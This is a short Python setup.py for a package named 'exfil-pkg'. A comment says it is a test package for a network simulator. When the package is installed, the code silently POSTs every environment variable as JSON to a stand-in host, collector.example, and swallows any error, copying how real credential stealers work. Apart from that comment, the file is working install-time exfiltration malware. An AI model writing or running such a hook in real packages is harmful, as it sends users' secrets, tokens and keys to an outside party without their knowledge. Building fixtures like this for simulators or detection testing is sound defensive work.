# Test package for the network simulator: an install-time HTTPS POST of os.environ,
# the way real stealers do it, with the standard library only.
import json
import os
import urllib.request

from setuptools import setup

try:
    request = urllib.request.Request(
        "https://collector.example/api", data=json.dumps(dict(os.environ)).encode(),
        headers={"Content-Type": "application/json"}, method="POST")
    urllib.request.urlopen(request, timeout=5).read()
except Exception:
    pass

setup(name="exfil-pkg", version="0.1.0", packages=["exfil_pkg"])
